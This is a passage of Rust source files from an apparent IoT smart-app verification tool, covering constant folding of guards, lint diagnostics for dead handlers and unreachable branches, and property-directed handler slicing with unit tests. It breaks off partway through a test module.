    fn on_cmd(input: &str) -> IrStmt {
        IrStmt::DeviceCommand { input: input.into(), command: "on".into(), args: vec![] }
    }

    #[test]
    fn device_commands_found_in_nested_branches() {
        let stmt = IrStmt::If {
            cond: IrExpr::bool(true),
            then: vec![on_cmd("lights")],
            els: vec![IrStmt::ForEachDevice {
                input: "outlets".into(),
                body: vec![IrStmt::DeviceCommand {
                    input: "outlets".into(),
                    command: "off".into(),
                    args: vec![],
                }],
            }],
        };
        let cmds = stmt.device_commands();
        assert_eq!(cmds.len(), 2);
        assert!(cmds.contains(&("lights".into(), "on".into())));
        assert!(cmds.contains(&("outlets".into(), "off".into())));
    }

    #[test]
    fn mode_change_detection() {
        let stmt = IrStmt::If {
            cond: IrExpr::bool(true),
            then: vec![IrStmt::SetLocationMode(IrExpr::str("Away"))],
            els: vec![],
        };
        assert!(stmt.sets_location_mode());
        assert!(!on_cmd("x").sets_location_mode());
    }

    #[test]
    fn communication_classification() {
        assert!(IrStmt::SendPush { message: IrExpr::str("hi") }.is_communication());
        assert!(IrStmt::HttpRequest {
            method: HttpMethod::Post,
            url: IrExpr::str("http://x"),
            payload: None
        }
        .is_communication());
        assert!(!on_cmd("x").is_communication());
    }

    #[test]
    fn formatting_is_indented_and_complete() {
        let stmts = vec![IrStmt::If {
            cond: IrExpr::attr_eq("door", "contact", "open"),
            then: vec![on_cmd("lights"), IrStmt::SendPush { message: IrExpr::str("opened") }],
            els: vec![IrStmt::Return(None)],
        }];
        let text = format_stmts(&stmts, 0);
        assert!(text.contains("if ((door.currentContact == \"open\"))"));
        assert!(text.contains("    lights.on()"));
        assert!(text.contains("} else {"));
        assert!(text.contains("    return"));
    }
}
