//! Constant propagation over guard expressions.
//!
//! The lowered IR keeps every guard a handler was written with; most are
//! data-dependent (`evt.value == "open"`), but translated apps also contain
//! guards that fold to a constant — `if (true)` from debugging leftovers,
//! comparisons between two literals, negations of constants.  [`fold`]
//! evaluates the closed fragment of [`IrExpr`] and returns `None` for
//! anything touching runtime state, so a `Some` result is trustworthy in
//! *every* reachable state.
//!
//! Folding powers the unreachable-branch lints only.  Effect summaries
//! deliberately ignore it (see [`crate::summary`]): keeping effects from
//! branches a human can prove dead keeps the summary a purely syntactic
//! over-approximation, which is what the slicing soundness argument and the
//! depgraph superset guarantee lean on.

use iotsan_ir::{IrBinOp, IrExpr, Value};

/// Evaluates `expr` to a [`Value`] when it depends on no runtime state.
///
/// Only constants and operators over folded constants reduce; settings,
/// device reads, event fields, app state, locals and opaque calls all yield
/// `None`.  Short-circuit operators reduce when one side is absorbing
/// (`false && _`, `true || _`) because IR expressions are side-effect-free.
pub fn fold(expr: &IrExpr) -> Option<Value> {
    match expr {
        IrExpr::Const(v) => Some(v.clone()),
        IrExpr::Not(e) => fold(e).map(|v| Value::Bool(!v.truthy())),
        IrExpr::Neg(e) => match fold(e)? {
            Value::Int(v) => Some(Value::Int(-v)),
            Value::Decimal(v) => Some(Value::Decimal(-v)),
            other => other.as_number().map(|n| Value::Decimal(-n)),
        },
        IrExpr::Ternary { cond, then, els } => {
            if fold(cond)?.truthy() {
                fold(then)
            } else {
                fold(els)
            }
        }
        IrExpr::Binary { op, lhs, rhs } => fold_binary(*op, lhs, rhs),
        _ => None,
    }
}

/// [`fold`] projected to Groovy truthiness — the form guard lints consume.
pub fn fold_guard(expr: &IrExpr) -> Option<bool> {
    fold(expr).map(|v| v.truthy())
}

fn fold_binary(op: IrBinOp, lhs: &IrExpr, rhs: &IrExpr) -> Option<Value> {
    let l = fold(lhs);
    let r = fold(rhs);
    // Absorbing short-circuit cases: one constant side decides the result.
    match op {
        IrBinOp::And => {
            if let Some(v) = &l {
                if !v.truthy() {
                    return Some(Value::Bool(false));
                }
            }
            if let Some(v) = &r {
                if !v.truthy() {
                    return Some(Value::Bool(false));
                }
            }
            return Some(Value::Bool(l?.truthy() && r?.truthy()));
        }
        IrBinOp::Or => {
            if let Some(v) = &l {
                if v.truthy() {
                    return Some(Value::Bool(true));
                }
            }
            if let Some(v) = &r {
                if v.truthy() {
                    return Some(Value::Bool(true));
                }
            }
            return Some(Value::Bool(l?.truthy() || r?.truthy()));
        }
        _ => {}
    }
    let (l, r) = (l?, r?);
    match op {
        IrBinOp::Eq => Some(Value::Bool(l.loosely_equals(&r))),
        IrBinOp::NotEq => Some(Value::Bool(!l.loosely_equals(&r))),
        IrBinOp::Lt => Some(Value::Bool(l.compare(&r)? == std::cmp::Ordering::Less)),
        IrBinOp::Le => Some(Value::Bool(l.compare(&r)? != std::cmp::Ordering::Greater)),
        IrBinOp::Gt => Some(Value::Bool(l.compare(&r)? == std::cmp::Ordering::Greater)),
        IrBinOp::Ge => Some(Value::Bool(l.compare(&r)? != std::cmp::Ordering::Less)),
        IrBinOp::Add => match (&l, &r) {
            (Value::Str(_), _) | (_, Value::Str(_)) => {
                Some(Value::Str(format!("{}{}", l.as_string(), r.as_string())))
            }
            _ => arith(&l, &r, |a, b| a + b),
        },
        IrBinOp::Sub => arith(&l, &r, |a, b| a - b),
        IrBinOp::Mul => arith(&l, &r, |a, b| a * b),
        IrBinOp::Div => {
            if r.as_number() == Some(0.0) {
                return None;
            }
            arith(&l, &r, |a, b| a / b)
        }
        IrBinOp::Mod => {
            if r.as_number() == Some(0.0) {
                return None;
            }
            arith(&l, &r, |a, b| a % b)
        }
        IrBinOp::In => match r {
            Value::List(items) => Some(Value::Bool(items.iter().any(|i| i.loosely_equals(&l)))),
            _ => None,
        },
        IrBinOp::And | IrBinOp::Or => unreachable!("handled above"),
    }
}

/// Numeric arithmetic preserving integer-ness when both sides are integers
/// and the result is whole.
fn arith(l: &Value, r: &Value, f: impl Fn(f64, f64) -> f64) -> Option<Value> {
    let result = f(l.as_number()?, r.as_number()?);
    match (l, r) {
        (Value::Int(_), Value::Int(_)) if result.fract() == 0.0 => Some(Value::Int(result as i64)),
        _ => Some(Value::Decimal(result)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn c(v: impl Into<Value>) -> IrExpr {
        IrExpr::Const(v.into())
    }

    #[test]
    fn constants_and_negations_fold() {
        assert_eq!(fold_guard(&IrExpr::bool(true)), Some(true));
        assert_eq!(fold_guard(&IrExpr::Not(Box::new(IrExpr::bool(true)))), Some(false));
        assert_eq!(fold(&IrExpr::Neg(Box::new(c(7)))), Some(Value::Int(-7)));
    }

    #[test]
    fn literal_comparisons_fold_with_loose_equality() {
        let eq = IrExpr::binary(IrBinOp::Eq, c("75"), c(75));
        assert_eq!(fold_guard(&eq), Some(true));
        let lt = IrExpr::binary(IrBinOp::Lt, c(3), c(2));
        assert_eq!(fold_guard(&lt), Some(false));
    }

    #[test]
    fn short_circuit_folds_around_unknowns() {
        let unknown = IrExpr::Setting("phone".into());
        let and = IrExpr::binary(IrBinOp::And, c(false), unknown.clone());
        assert_eq!(fold_guard(&and), Some(false));
        let or = IrExpr::binary(IrBinOp::Or, unknown.clone(), c(true));
        assert_eq!(fold_guard(&or), Some(true));
        // No absorbing side: the unknown wins.
        assert_eq!(fold_guard(&IrExpr::binary(IrBinOp::And, c(true), unknown)), None);
    }

    #[test]
    fn runtime_state_never_folds() {
        assert_eq!(fold(&IrExpr::LocationMode), None);
        assert_eq!(fold(&IrExpr::StateVar("x".into())), None);
        assert_eq!(
            fold(&IrExpr::DeviceAttr { input: "d".into(), attribute: "switch".into() }),
            None
        );
    }

    #[test]
    fn arithmetic_and_membership_fold() {
        let sum = IrExpr::binary(IrBinOp::Add, c(2), c(3));
        assert_eq!(fold(&sum), Some(Value::Int(5)));
        let div0 = IrExpr::binary(IrBinOp::Div, c(1), c(0));
        assert_eq!(fold(&div0), None);
        let member = IrExpr::binary(
            IrBinOp::In,
            c("Away"),
            IrExpr::Const(Value::List(vec![Value::Str("Home".into()), Value::Str("Away".into())])),
        );
        assert_eq!(fold_guard(&member), Some(true));
        let concat = IrExpr::binary(IrBinOp::Add, c("a"), c(1));
        assert_eq!(fold(&concat), Some(Value::Str("a1".into())));
    }

    #[test]
    fn ternary_folds_through_its_guard() {
        let t = IrExpr::Ternary {
            cond: Box::new(c(true)),
            then: Box::new(c("x")),
            els: Box::new(IrExpr::LocationMode),
        };
        assert_eq!(fold(&t), Some(Value::Str("x".into())));
    }
}
