//! Lint diagnostics over an installed bundle.
//!
//! Four findings, each a static fact about the configured system the model
//! checker would otherwise spend states discovering (or silently never
//! exercise):
//!
//! * **dead handlers** — subscribed to an event no installed device can emit
//!   and no app in the bundle fakes with `sendEvent`;
//! * **unreachable branches** — guards [`mod@crate::fold`] proves constant;
//! * **unknown write targets** — commands to inputs with no bound devices,
//!   commands the capability does not define, and fake events claiming
//!   attributes no household device carries;
//! * **self-loops** — a handler writing the very attribute it subscribes to
//!   (a feedback cycle the cascade bound will eventually cut).
//!
//! Provenance is `app/handler/location`, where the location is the
//! statement's path in the lowered IR (`body[1].then[0]`) — the translated IR
//! does not retain Groovy line numbers, and the path survives reformatting
//! of the source, which line numbers would not.

use crate::fold::fold_guard;
use crate::summary::{summarize_handler, WriteEffect};
use iotsan_config::{Binding, SystemConfig};
use iotsan_devices::registry;
use iotsan_ir::{IrApp, IrHandler, IrStmt, Trigger};
use std::collections::BTreeSet;
use std::fmt;

/// The kind of a diagnostic.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum LintKind {
    /// Handler subscribed to an event nothing installed can emit.
    DeadHandler,
    /// Branch guarded by a constant-false (or constant-true) condition.
    UnreachableBranch,
    /// Write aimed at a device or attribute the household does not carry.
    UnknownWriteTarget,
    /// Handler writes the attribute it subscribes to.
    SelfLoop,
}

impl LintKind {
    /// Stable kebab-case identifier, used in rendered reports.
    pub fn slug(&self) -> &'static str {
        match self {
            LintKind::DeadHandler => "dead-handler",
            LintKind::UnreachableBranch => "unreachable-branch",
            LintKind::UnknownWriteTarget => "unknown-write-target",
            LintKind::SelfLoop => "self-loop",
        }
    }

    /// True for the kinds `--deny-dead-code` escalates to a hard failure:
    /// dead handlers and unreachable branches mean the model contains code
    /// exploration can never exercise.
    pub fn denied_as_dead_code(&self) -> bool {
        matches!(self, LintKind::DeadHandler | LintKind::UnreachableBranch)
    }
}

/// One lint finding with app/handler/location provenance.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Diagnostic {
    /// App display name.
    pub app: String,
    /// Handler method name.
    pub handler: String,
    /// IR-path provenance (`trigger`, `body[0].then[1]`, ...).
    pub location: String,
    /// The finding kind.
    pub kind: LintKind,
    /// Human-readable explanation.
    pub message: String,
}

impl fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "warning[{}] {}::{} @ {}: {}",
            self.kind.slug(),
            self.app,
            self.handler,
            self.location,
            self.message
        )
    }
}

/// Lints every app of an installed bundle against its configuration,
/// returning findings in a deterministic order.
pub fn lint_system(apps: &[IrApp], config: &SystemConfig) -> Vec<Diagnostic> {
    // Attributes any installed device carries, and attributes some app fakes:
    // both can wake a subscriber.
    let carried: BTreeSet<String> = config
        .devices
        .iter()
        .flat_map(|d| registry().spec_or_switch(&d.capability).attributes.iter())
        .map(|a| a.name.to_string())
        .collect();
    let faked: BTreeSet<String> = apps
        .iter()
        .flat_map(|app| app.handlers.iter().map(move |h| (app, h)))
        .flat_map(|(app, h)| summarize_handler(app, h).writes)
        .filter_map(|w| match w {
            WriteEffect::FakeEvent { attribute, .. } => Some(attribute),
            _ => None,
        })
        .collect();

    let mut out = Vec::new();
    for app in apps {
        for handler in &app.handlers {
            lint_handler(app, handler, config, &carried, &faked, &mut out);
        }
    }
    out.sort();
    out
}

fn lint_handler(
    app: &IrApp,
    handler: &IrHandler,
    config: &SystemConfig,
    carried: &BTreeSet<String>,
    faked: &BTreeSet<String>,
    out: &mut Vec<Diagnostic>,
) {
    let diag = |kind: LintKind, location: String, message: String| Diagnostic {
        app: app.name.clone(),
        handler: handler.name.clone(),
        location,
        kind,
        message,
    };

    // Dead handlers: device subscriptions nothing installed can satisfy.
    if let Trigger::Device { input, attribute, value } = &handler.trigger {
        let bound = bound_capabilities(app, input, config);
        let emits = bound.iter().any(|cap| {
            let spec = registry().spec_or_switch(cap);
            spec.attributes.iter().any(|a| {
                a.name == attribute.as_str()
                    && value.as_ref().map(|v| a.domain.index_of(v).is_some()).unwrap_or(true)
            })
        });
        let faked_here = faked.contains(attribute.as_str());
        if bound.is_empty() {
            out.push(diag(
                LintKind::DeadHandler,
                "trigger".into(),
                format!("subscribed to `{input}` but no device is bound to that input"),
            ));
        } else if !emits && !faked_here {
            let event = match value {
                Some(v) => format!("{attribute}.{v}"),
                None => attribute.clone(),
            };
            out.push(diag(
                LintKind::DeadHandler,
                "trigger".into(),
                format!("subscribed to `{event}`, which no bound device can emit"),
            ));
        }
    }

    // Self-loops: the handler writes its own trigger channel.
    let summary = summarize_handler(app, handler);
    if let Some(channel) = summary.trigger_channel() {
        if summary.written_channels().contains(&channel) {
            out.push(diag(
                LintKind::SelfLoop,
                "trigger".into(),
                format!("writes `{channel}`, the attribute it subscribes to (feedback loop)"),
            ));
        }
    }

    // Statement-level lints, with IR-path provenance.
    walk_with_path(&handler.body, "body", &mut |stmt, path| match stmt {
        IrStmt::If { cond, then, els } => match fold_guard(cond) {
            Some(false) if !then.is_empty() => out.push(diag(
                LintKind::UnreachableBranch,
                path.to_string(),
                format!("guard `{cond}` is constant false; the then-branch never runs"),
            )),
            Some(true) if !els.is_empty() => out.push(diag(
                LintKind::UnreachableBranch,
                path.to_string(),
                format!("guard `{cond}` is constant true; the else-branch never runs"),
            )),
            _ => {}
        },
        IrStmt::While { cond, body } if fold_guard(cond) == Some(false) && !body.is_empty() => {
            out.push(diag(
                LintKind::UnreachableBranch,
                path.to_string(),
                format!("loop guard `{cond}` is constant false; the body never runs"),
            ));
        }
        IrStmt::DeviceCommand { input, command, .. } => {
            let bound = bound_capabilities(app, input, config);
            if bound.is_empty() {
                out.push(diag(
                    LintKind::UnknownWriteTarget,
                    path.to_string(),
                    format!("sends `{command}` to `{input}`, but no device is bound to that input"),
                ));
            } else if !bound
                .iter()
                .any(|cap| registry().spec_or_switch(cap).command(command).is_some())
            {
                out.push(diag(
                    LintKind::UnknownWriteTarget,
                    path.to_string(),
                    format!(
                        "command `{command}` is not defined by the bound capabilities ({})",
                        bound.iter().cloned().collect::<Vec<_>>().join(", ")
                    ),
                ));
            }
        }
        IrStmt::SendEvent { attribute, .. } if !carried.contains(attribute.as_str()) => {
            out.push(diag(
                LintKind::UnknownWriteTarget,
                path.to_string(),
                format!("fakes an event for `{attribute}`, which no household device carries"),
            ));
        }
        _ => {}
    });
}

/// The capabilities of the devices actually bound to `input` for this app in
/// `config` — empty when the input is unbound, unset or bound to nothing.
fn bound_capabilities(app: &IrApp, input: &str, config: &SystemConfig) -> BTreeSet<String> {
    let Some(app_cfg) = config.apps.iter().find(|a| a.app == app.name) else {
        return BTreeSet::new();
    };
    let labels = match app_cfg.bindings.get(input) {
        Some(Binding::Devices(labels)) => labels.clone(),
        _ => return BTreeSet::new(),
    };
    config
        .devices
        .iter()
        .filter(|d| labels.contains(&d.label))
        .map(|d| d.capability.clone())
        .collect()
}

/// Preorder statement walk threading an IR-path string (`body[0].then[1]`).
fn walk_with_path(stmts: &[IrStmt], prefix: &str, f: &mut impl FnMut(&IrStmt, &str)) {
    for (i, stmt) in stmts.iter().enumerate() {
        let path = format!("{prefix}[{i}]");
        f(stmt, &path);
        match stmt {
            IrStmt::If { then, els, .. } => {
                walk_with_path(then, &format!("{path}.then"), f);
                walk_with_path(els, &format!("{path}.else"), f);
            }
            IrStmt::While { body, .. } | IrStmt::ForEachDevice { body, .. } => {
                walk_with_path(body, &format!("{path}.each"), f);
            }
            _ => {}
        }
    }
}

/// Renders a diagnostic report, one line per finding, with a trailing
/// summary count — the format the committed golden lint report pins down.
pub fn render_report(diagnostics: &[Diagnostic]) -> String {
    let mut out = String::new();
    for d in diagnostics {
        out.push_str(&d.to_string());
        out.push('\n');
    }
    out.push_str(&format!("{} finding(s)\n", diagnostics.len()));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_config::{AppConfig, DeviceConfig};
    use iotsan_ir::{AppInput, IrExpr};

    fn app(handlers: Vec<IrHandler>) -> IrApp {
        IrApp {
            name: "A".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("contact1", "contactSensor"),
                AppInput::device("switches", "switch"),
            ],
            handlers,
            state_vars: vec![],
            dynamic_discovery: false,
        }
    }

    fn configured(app: &IrApp) -> SystemConfig {
        let mut config = SystemConfig::new();
        config.devices = vec![
            DeviceConfig {
                label: "frontDoor".into(),
                capability: "contactSensor".into(),
                role: "door".into(),
            },
            DeviceConfig {
                label: "lamp".into(),
                capability: "switch".into(),
                role: "light".into(),
            },
        ];
        let mut app_cfg = AppConfig::new(app.name.clone());
        app_cfg.bindings.insert("contact1".into(), Binding::Devices(vec!["frontDoor".into()]));
        app_cfg.bindings.insert("switches".into(), Binding::Devices(vec!["lamp".into()]));
        config.apps.push(app_cfg);
        config
    }

    fn handler(trigger: Trigger, body: Vec<IrStmt>) -> IrHandler {
        IrHandler { app: "A".into(), name: "h".into(), trigger, body }
    }

    fn contact_trigger(value: Option<&str>) -> Trigger {
        Trigger::Device {
            input: "contact1".into(),
            attribute: "contact".into(),
            value: value.map(str::to_string),
        }
    }

    #[test]
    fn clean_handler_produces_no_findings() {
        let a = app(vec![handler(
            contact_trigger(Some("open")),
            vec![IrStmt::DeviceCommand {
                input: "switches".into(),
                command: "on".into(),
                args: vec![],
            }],
        )]);
        let config = configured(&a);
        assert!(lint_system(&[a], &config).is_empty());
    }

    #[test]
    fn dead_handler_on_impossible_subscription() {
        // A contact sensor never emits `motion` events.
        let a = app(vec![handler(
            Trigger::Device {
                input: "contact1".into(),
                attribute: "motion".into(),
                value: Some("active".into()),
            },
            vec![],
        )]);
        let config = configured(&a);
        let found = lint_system(&[a], &config);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, LintKind::DeadHandler);
        assert_eq!(found[0].location, "trigger");
    }

    #[test]
    fn faked_events_resurrect_dead_handlers() {
        // Another handler fakes `motion` events, so the subscription is live.
        let a = app(vec![
            handler(
                Trigger::Device {
                    input: "contact1".into(),
                    attribute: "motion".into(),
                    value: None,
                },
                vec![],
            ),
            IrHandler {
                app: "A".into(),
                name: "faker".into(),
                trigger: Trigger::AppTouch,
                body: vec![IrStmt::SendEvent {
                    attribute: "motion".into(),
                    value: IrExpr::str("active"),
                }],
            },
        ]);
        let config = configured(&a);
        let found = lint_system(&[a], &config);
        // The fake event itself is flagged (no household device carries
        // `motion` here), but the subscription is not dead.
        assert!(found.iter().all(|d| d.kind != LintKind::DeadHandler), "{found:?}");
    }

    #[test]
    fn unreachable_branches_carry_ir_paths() {
        let a = app(vec![handler(
            contact_trigger(None),
            vec![IrStmt::If {
                cond: IrExpr::bool(true),
                then: vec![IrStmt::If {
                    cond: IrExpr::bool(false),
                    then: vec![IrStmt::DeviceCommand {
                        input: "switches".into(),
                        command: "on".into(),
                        args: vec![],
                    }],
                    els: vec![],
                }],
                els: vec![IrStmt::Return(None)],
            }],
        )]);
        let config = configured(&a);
        let found = lint_system(&[a], &config);
        let locations: Vec<&str> = found.iter().map(|d| d.location.as_str()).collect();
        assert!(locations.contains(&"body[0]"), "{found:?}");
        assert!(locations.contains(&"body[0].then[0]"), "{found:?}");
        assert!(found.iter().all(|d| d.kind == LintKind::UnreachableBranch));
    }

    #[test]
    fn unknown_commands_and_unbound_inputs_are_flagged() {
        let a = app(vec![handler(
            contact_trigger(None),
            vec![
                IrStmt::DeviceCommand {
                    input: "switches".into(),
                    command: "explode".into(),
                    args: vec![],
                },
                IrStmt::DeviceCommand { input: "ghost".into(), command: "on".into(), args: vec![] },
            ],
        )]);
        let config = configured(&a);
        let found = lint_system(&[a], &config);
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(found.iter().all(|d| d.kind == LintKind::UnknownWriteTarget));
    }

    #[test]
    fn self_loop_detected_through_the_registry() {
        // Subscribed to `switch`, writes `switch` via the `on` command.
        let a = app(vec![handler(
            Trigger::Device { input: "switches".into(), attribute: "switch".into(), value: None },
            vec![IrStmt::DeviceCommand {
                input: "switches".into(),
                command: "on".into(),
                args: vec![],
            }],
        )]);
        let config = configured(&a);
        let found = lint_system(&[a], &config);
        assert!(found.iter().any(|d| d.kind == LintKind::SelfLoop), "{found:?}");
    }

    #[test]
    fn report_renders_one_line_per_finding() {
        let d = Diagnostic {
            app: "A".into(),
            handler: "h".into(),
            location: "body[0]".into(),
            kind: LintKind::UnreachableBranch,
            message: "m".into(),
        };
        let report = render_report(&[d]);
        assert!(report.contains("warning[unreachable-branch] A::h @ body[0]: m"));
        assert!(report.ends_with("1 finding(s)\n"));
    }
}
