//! Property-directed cone-of-influence slicing.
//!
//! Given the registered [`iotsan_properties::PropertySpec`]s, only a subset of the state space
//! is *observable*: the device attributes, location mode and per-step flags
//! their atoms read.  A handler whose writes can never reach that cone —
//! directly or through any chain of internal events — cannot change any
//! verdict, so exploration may skip it entirely.
//!
//! # Soundness
//!
//! The slicer preserves verdicts *exactly* (byte-identical violated sets, not
//! just "no missed violations") by construction:
//!
//! 1. **The external-action alphabet is untouched.**  The model enumerates
//!    sensor events from installed *devices* (which the slice never removes),
//!    and `TimerFire`/`AppTouch`/`LocationEvent` actions per *handler* of
//!    those triggers — so every handler with an external trigger is
//!    unconditionally retained, and sliced and unsliced exploration see the
//!    same action menu at every state.  Only cascade-dispatched handlers
//!    (device- and mode-triggered) are candidates for dropping.
//! 2. **The cone is closed under observation.**  Retaining a handler adds
//!    its read channels *and its own trigger channel* to the cone, then the
//!    closure re-runs: any handler that can write a channel some retained
//!    handler reads or wakes on is itself retained.  A dropped handler
//!    therefore writes only channels that no property atom and no retained
//!    handler can ever observe.
//! 3. **Summaries over-approximate** (see [`crate::summary`]): effects in
//!    statically-unreachable branches are kept, so "writes" above means
//!    "could possibly write".
//!
//! Known caveat: dropped handlers also stop consuming the dispatcher's
//! cascade budget (`max_cascade`), so a run that *truncates* a cascade at the
//! bound could in principle truncate differently sliced vs unsliced.  The
//! bound exists as an anti-livelock backstop and is not reached by the market
//! corpus; ARCHITECTURE.md documents the caveat.

use crate::summary::{summarize_handler, EffectSummary, WriteEffect};
use iotsan_ir::IrApp;
use iotsan_properties::{Atom, PropertySet};
use std::collections::BTreeSet;
use std::fmt;

/// The observable footprint of a property set: the event channels and
/// step-observation flags its atoms read, grown to a fixpoint by the slicer.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Cone {
    /// Observable event channels: device attribute names, `mode`, location
    /// event names and app-state channels (`state:{app}:{var}`).
    pub channels: BTreeSet<String>,
    /// Any actuator command is observable (conflicting/repeated/issued/failed
    /// command atoms).
    pub commands: bool,
    /// SMS sends are observable.
    pub sms: bool,
    /// Push messages are observable.
    pub push: bool,
    /// Network requests are observable.
    pub network: bool,
    /// `unsubscribe` calls are observable.
    pub unsubscribe: bool,
    /// Fake (`sendEvent`) events are observable.
    pub fake_events: bool,
}

impl Cone {
    /// Seeds the cone from every atom of every registered property.
    pub fn seed(properties: &PropertySet) -> Cone {
        let mut cone = Cone::default();
        for spec in properties.specs() {
            for expr in spec.modality.exprs() {
                expr.visit_atoms(&mut |atom| cone.add_atom(atom));
            }
        }
        cone
    }

    fn add_atom(&mut self, atom: &Atom) {
        match atom {
            Atom::ModeIs(_) => {
                self.channels.insert("mode".into());
            }
            // `anyone_home` reads presence sensors when installed and falls
            // back to the mode proxy otherwise — seed both.
            Atom::AnyoneHome => {
                self.channels.insert("presence".into());
                self.channels.insert("mode".into());
            }
            Atom::AnyAttr(t) | Atom::AllAttr(t) => {
                self.channels.insert(t.attribute.clone());
            }
            Atom::AnyBelow(t) | Atom::AnyAbove(t) => {
                self.channels.insert(t.attribute.clone());
            }
            // Constants of the installation / failure injection — no handler
            // writes can change them.
            Atom::HasDevice(_) | Atom::AnyOffline(_) => {}
            Atom::ConflictingCommands
            | Atom::RepeatedCommands
            | Atom::CommandFailed
            | Atom::CommandIssued(_) => self.commands = true,
            Atom::UserNotified => {
                self.sms = true;
                self.push = true;
            }
            Atom::SmsRecipientMismatch => self.sms = true,
            Atom::DisallowedNetwork => self.network = true,
            Atom::UnsubscribeCalled => self.unsubscribe = true,
            Atom::FakeEventRaised => self.fake_events = true,
        }
    }

    /// True when any of the handler's write effects lands inside the cone.
    pub fn observes(&self, summary: &EffectSummary) -> bool {
        summary.writes.iter().any(|w| match w {
            WriteEffect::Command { .. } if self.commands => true,
            WriteEffect::Sms => self.sms,
            WriteEffect::Push => self.push,
            WriteEffect::Network => self.network,
            WriteEffect::Unsubscribe => self.unsubscribe,
            WriteEffect::FakeEvent { .. } if self.fake_events => true,
            _ => false,
        }) || summary.written_channels().iter().any(|c| self.channels.contains(c))
    }

    /// Adds everything a retained handler can observe: its read channels and
    /// the channel its own trigger wakes on.
    fn absorb(&mut self, summary: &EffectSummary) -> bool {
        let mut grew = false;
        for c in summary.read_channels() {
            grew |= self.channels.insert(c);
        }
        if let Some(c) = summary.trigger_channel() {
            grew |= self.channels.insert(c);
        }
        grew
    }
}

/// The result of slicing one bundle against one property set.
#[derive(Debug, Clone)]
pub struct SlicePlan {
    /// `(app, handler)` names retained for exploration, sorted.
    pub retained: BTreeSet<(String, String)>,
    /// `(app, handler)` names proven irrelevant and dropped, sorted.
    pub dropped: BTreeSet<(String, String)>,
    /// The closed cone the plan was computed against.
    pub cone: Cone,
}

impl SlicePlan {
    /// Number of handlers the plan removes.
    pub fn dropped_count(&self) -> usize {
        self.dropped.len()
    }

    /// True when the plan removes nothing (sliced exploration would be
    /// identical to unsliced).
    pub fn is_identity(&self) -> bool {
        self.dropped.is_empty()
    }

    /// Applies the plan: the same apps (every app survives, even with all
    /// handlers dropped, so input bindings, state-var layout and the device
    /// table are untouched) minus the dropped handlers.
    pub fn apply(&self, apps: &[IrApp]) -> Vec<IrApp> {
        apps.iter()
            .map(|app| {
                let mut sliced = app.clone();
                sliced
                    .handlers
                    .retain(|h| self.retained.contains(&(app.name.clone(), h.name.clone())));
                sliced
            })
            .collect()
    }

    /// Content hash of the plan (FNV-1a over the retained/dropped partition
    /// and the closed cone) — folded into planner fingerprints so cached
    /// verdicts never cross between different slices.
    pub fn content_hash(&self) -> u64 {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        let mut write = |bytes: &[u8]| {
            for b in bytes {
                h ^= u64::from(*b);
                h = h.wrapping_mul(0x1000_0000_01b3);
            }
            h ^= 0xff;
            h = h.wrapping_mul(0x1000_0000_01b3);
        };
        for (app, handler) in &self.retained {
            write(b"keep");
            write(app.as_bytes());
            write(handler.as_bytes());
        }
        for (app, handler) in &self.dropped {
            write(b"drop");
            write(app.as_bytes());
            write(handler.as_bytes());
        }
        for c in &self.cone.channels {
            write(c.as_bytes());
        }
        let flags = [
            self.cone.commands,
            self.cone.sms,
            self.cone.push,
            self.cone.network,
            self.cone.unsubscribe,
            self.cone.fake_events,
        ];
        write(&flags.map(u8::from));
        h
    }
}

impl fmt::Display for SlicePlan {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "slice: {} handler(s) retained, {} dropped",
            self.retained.len(),
            self.dropped.len()
        )
    }
}

/// Computes the property-directed slice of `apps` against `properties`.
///
/// Handlers with external triggers (timer, app-touch, location events) are
/// always retained — they *are* the external-action alphabet.  Cascade
/// handlers are retained exactly when the closed cone observes their writes.
pub fn slice_plan(apps: &[IrApp], properties: &PropertySet) -> SlicePlan {
    let summaries: Vec<EffectSummary> = apps
        .iter()
        .flat_map(|app| app.handlers.iter().map(move |h| summarize_handler(app, h)))
        .collect();

    let mut cone = Cone::seed(properties);
    let mut retained: Vec<bool> = summaries.iter().map(|s| s.external_source()).collect();
    // External sources are in from the start, so their reads are observable
    // before the first relevance pass.
    for (i, s) in summaries.iter().enumerate() {
        if retained[i] {
            cone.absorb(s);
        }
    }

    loop {
        let mut changed = false;
        for (i, s) in summaries.iter().enumerate() {
            if !retained[i] && cone.observes(s) {
                retained[i] = true;
                changed = true;
                cone.absorb(s);
            }
        }
        if !changed {
            break;
        }
    }

    let mut plan = SlicePlan { retained: BTreeSet::new(), dropped: BTreeSet::new(), cone };
    for (i, s) in summaries.iter().enumerate() {
        let key = (s.app.clone(), s.handler.clone());
        if retained[i] {
            plan.retained.insert(key);
        } else {
            plan.dropped.insert(key);
        }
    }
    plan
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_ir::{AppInput, IrHandler, IrStmt, Trigger};
    use iotsan_properties::{DeviceSelect, Expr, PropertySet, PropertySpec};

    fn command(input: &str, command: &str) -> IrStmt {
        IrStmt::DeviceCommand { input: input.into(), command: command.into(), args: vec![] }
    }

    fn device_handler(name: &str, input: &str, attribute: &str, body: Vec<IrStmt>) -> IrHandler {
        IrHandler {
            app: "A".into(),
            name: name.into(),
            trigger: Trigger::Device {
                input: input.into(),
                attribute: attribute.into(),
                value: None,
            },
            body,
        }
    }

    fn bundle() -> Vec<IrApp> {
        // lights: contact -> switch on (writes `switch`)
        // locker: contact -> lock (writes `lock`)
        // chain: switch -> lock (reads the channel `lights` writes)
        vec![IrApp {
            name: "A".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("contact1", "contactSensor"),
                AppInput::device("switches", "switch"),
                AppInput::device("locks", "lock"),
            ],
            handlers: vec![
                device_handler("lights", "contact1", "contact", vec![command("switches", "on")]),
                device_handler("locker", "contact1", "contact", vec![command("locks", "lock")]),
                device_handler("chain", "switches", "switch", vec![command("locks", "lock")]),
            ],
